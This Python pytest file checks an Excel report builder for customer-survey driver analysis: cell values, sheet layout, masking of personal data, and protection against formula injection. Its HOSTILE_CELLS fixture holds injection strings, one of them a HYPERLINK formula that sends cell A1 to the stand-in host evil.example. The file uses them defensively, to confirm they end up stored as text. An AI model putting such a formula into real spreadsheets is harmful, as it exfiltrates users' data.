"""The Excel workbook: one sheet per table, numbers as numbers, and every number equal to to_dict().

openpyxl writes floats with 16 significant digits (``%.16g``), so a cell equals its
value to that precision (relative 1e-15), not always to the last bit.
"""
from __future__ import annotations

import json
import math
import zipfile
from dataclasses import replace
from itertools import cycle
from pathlib import Path

import pytest
from openpyxl import load_workbook

from analysis.drivers.analyse import analyse_drivers
from analysis.report import build_reports
from analysis.validation.validation import validate

PERSONAL = "Mail me op a.b@example.nl of bel +31 6 1234 5678; rekening DE89 3704 0044 0532 0130 00. Sanne hielp."


@pytest.fixture(scope="module")
def reports(example, inst, tmp_path_factory):
    data = example.data.copy()
    rows = data.why.notna() & data.nps.notna() & (data.organisation == "Telecom")
    data.loc[rows, "why"] = PERSONAL
    return build_reports(data, inst, example.quality, lang="en", out_dir=tmp_path_factory.mktemp("xlsx"),
                         analysis=example.analysis, validation=example.validation, pdf=False)


@pytest.fixture(scope="module")
def workbook(reports):
    return load_workbook(reports.workbook)


def same(cells: list, values: list) -> bool:
    """Cells equal the values to the 16 significant digits openpyxl writes (Excel shows 15)."""
    return len(cells) == len(values) and all(
        c == v if not isinstance(v, float) else c == pytest.approx(v, rel=1e-15, abs=0) for c, v in zip(cells, values))


def records(ws) -> list[dict]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, row)) for row in ws.iter_rows(min_row=2, values_only=True)]


def group_key(label: str) -> str:
    return "all" if label == "Whole study" else label


def test_one_sheet_per_table_with_readable_headers(workbook):
    names = workbook.sheetnames
    for sheet in ("About this workbook", "Priorities", "KPIs by organisation", "KPIs by channel", "Versus rest",
                  "Driver details", "Model fit", "Reliability", "HTMT", "Invariance", "Loadings", "Data quality",
                  "Exclusions", "Questionnaire", "Settings", "Software", "Voice of the customer"):
        assert sheet in names
    for ws in workbook.worksheets[1:]:
        header = [c.value for c in ws[1]]
        assert all(isinstance(h, str) and h for h in header), (ws.title, header)
        assert len(set(header)) == len(header) or ws.title in ("Model fit", "Reliability"), (ws.title, header)


def test_priorities_sheet_equals_to_dict(workbook, example, inst):
    doc = json.loads(json.dumps(example.analysis.to_dict()))
    key = {c.label["en"]: c.key for c in inst.drivers}
    rows = records(workbook["Priorities"])
    assert len(rows) == 7 * 5
    for r in rows:
        d = doc["groups"][group_key(r["Group"])]["drivers"][key[r["Driver"]]]
        assert same([r["Importance (% of R²)"], r["Importance (% of R²) (low)"], r["Importance (% of R²) (high)"]],
                    [d["lmg_pct"], *d["lmg_pct_ci"]])
        assert same([r["Performance (0–100)"], r["Performance (0–100) (low)"], r["Performance (0–100) (high)"]],
                    [d["performance"], *d["performance_ci"]])
        assert same([r["Priority"], r["Priority (low)"], r["Priority (high)"]], [d["priority"], *d["priority_ci"]])
        assert same([r["Importance rank"], r["Importance rank (low)"], r["Importance rank (high)"]],
                    [d["rank"], *d["rank_ci"]])
        assert r["Quadrant"] == d["quadrant"]


def test_details_and_differences_equal_to_dict(workbook, example, inst):
    doc = json.loads(json.dumps(example.analysis.to_dict()))
    key = {c.label["en"]: c.key for c in inst.drivers}
    for r in records(workbook["Driver details"]):
        d = doc["groups"][group_key(r["Group"])]["drivers"][key[r["Driver"]]]
        assert same([r["Beta"], r["Beta (low)"], r["Beta (high)"], r["p (beta)"]],
                    [d["beta_std"], *d["beta_std_ci"], d["beta_std_p"]])
        assert same([r["SEM path"], r["p (SEM)"], r["VIF"], r["First"]],
                    [d["sem_std"], d["sem_p"], d["vif"], d["p_first"]])
    differences = {(d["group"], d["driver"]): d for d in doc["differences"]
                   if d["versus"] == "rest" and d["statistic"] == "lmg_pct"}
    rows = records(workbook["Versus rest"])
    assert len(rows) == 4 * 7
    for r in rows:
        d = differences[(r["Group"], key[r["Driver"]])]
        assert same([r["Versus the rest"], r["Versus the rest (low)"], r["Versus the rest (high)"]],
                    [d["estimate"], *d["ci"]])


def test_kpi_sheets_equal_to_dict(workbook, example):
    doc = json.loads(json.dumps(example.analysis.to_dict()))["groups"]
    names = {"CSAT": "csat_pct", "NPS": "nps", "CES": "ces_mean", "CES % easy": "ces_pct_easy", "FCR": "fcr_pct_yes"}
    rows = records(workbook["KPIs by organisation"])
    assert [r["Organisation"] for r in rows] == ["Energie", "Telecom", "Verzekeraar", "Webwinkel", "Whole study"]
    for r in rows:
        kpis = doc[group_key(r["Organisation"])]["kpis"]
        for header, k in names.items():
            assert same([r[header], r[f"{header} (low)"], r[f"{header} (high)"]],
                        [kpis[k]["estimate"], *kpis[k]["ci"]])
    channel_rows = records(workbook["KPIs by channel"])
    assert channel_rows and all(r["Usable respondents"] >= 30 for r in channel_rows)
    for r in channel_rows:
        if r["Channel"] == "All channels":
            assert same([r["NPS"]], [doc[group_key(r["Group"])]["kpis"]["nps"]["estimate"]])


def test_validation_sheets_equal_validate_to_dict(workbook, example, inst):
    doc = json.loads(json.dumps(example.validation.to_dict()))
    for r in records(workbook["Model fit"]):
        fit = doc["groups"][group_key(r["Organisation"])]["fit"]
        assert same([r["χ²"], r["df"], r["p"], r["CFI"], r["TLI"], r["RMSEA"], r["RMSEA (low)"], r["RMSEA (high)"],
                     r["SRMR"]],
                    [fit["chi2"], fit["df"], fit["pvalue"], fit["cfi"], fit["tli"], fit["rmsea"], *fit["rmsea_ci"],
                     fit["srmr"]])
    key = {c.label["en"]: c.key for c in inst.constructs}
    for r in records(workbook["Reliability"]):
        c = doc["groups"][group_key(r["Group"])]["constructs"][key[r["Construct"]]]
        assert same([r["alpha"], r["alpha (low)"], r["alpha (high)"], r["omega"], r["CR"], r["AVE"]],
                    [c["alpha"], *c["alpha_ci"], c["omega"], c["cr"], c["ave"]])
    invariance = records(workbook["Invariance"])
    assert same([r["CFI"] for r in invariance], [s["cfi"] for s in doc["invariance"]])
    assert same([r["Holds"] for r in invariance], [s["holds"] for s in doc["invariance"]])


def test_numbers_are_numbers(workbook):
    for ws in workbook.worksheets[1:]:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and ws.title != "Software":     # versions like '3.1' are text
                    with pytest.raises(ValueError):
                        float(cell.value.replace(",", "."))          # a number written as text would parse
                if isinstance(cell.value, float):
                    assert math.isfinite(cell.value)


def test_open_answers_in_the_workbook_are_masked(workbook):
    quotes = [r["Explanation (masked)"] for r in records(workbook["Voice of the customer"]) if r["Group"] == "Telecom"]
    assert quotes and all(q == "Mail me op [e-mail] of bel [phone]; rekening [IBAN]. [name] hielp." for q in quotes)
    every_cell = " ".join(str(c.value) for ws in workbook.worksheets for row in ws.iter_rows() for c in row)
    for raw in ("a.b@example.nl", "1234 5678", "DE89", "Sanne"):
        assert raw not in every_cell


def test_the_sheet_of_each_table_is_known_by_the_table_name(reports, workbook):
    assert reports.sheets["about"] == workbook.sheetnames[0] == "About this workbook"
    assert reports.sheets["overview"] == "Overview" and reports.sheets["priorities"] == "Priorities"
    assert set(reports.sheets.values()) == set(workbook.sheetnames)


HOSTILE_CELLS = ("=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "@SUM(1)", "+1", "-1+1")


def test_text_from_the_data_never_becomes_a_formula(example, inst, tmp_path):
    """Group names, the title, the file name and open answers starting with = + - @ are stored as text."""
    data = example.data[example.data.organisation.isin(["Energie", "Telecom"])].copy()
    data["organisation"] = data.organisation.map({"Energie": HOSTILE_CELLS[0], "Telecom": HOSTILE_CELLS[1]})
    answered = data.why.notna() & data.nps.notna()
    data.loc[answered, "why"] = [v for v, _ in zip(cycle(HOSTILE_CELLS), range(answered.sum()))]
    analysis = analyse_drivers(data, inst, by="organisation", bootstrap=20, seed=1, sem=False)
    validation = validate(data, inst, by="organisation", invariance=False)
    quality = replace(example.quality, file=Path(tmp_path / "@SUM(1).sav"))
    reports = build_reports(data, inst, quality, lang="en", out_dir=tmp_path / "out", title=HOSTILE_CELLS[2],
                            analysis=analysis, validation=validation, pdf=False)
    wb = load_workbook(reports.workbook)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for hostile in HOSTILE_CELLS:
        assert hostile in values                              # shown as typed
    assert "@SUM(1).sav" in values
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")
    with zipfile.ZipFile(reports.workbook) as archive:           # no formula element in any sheet
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
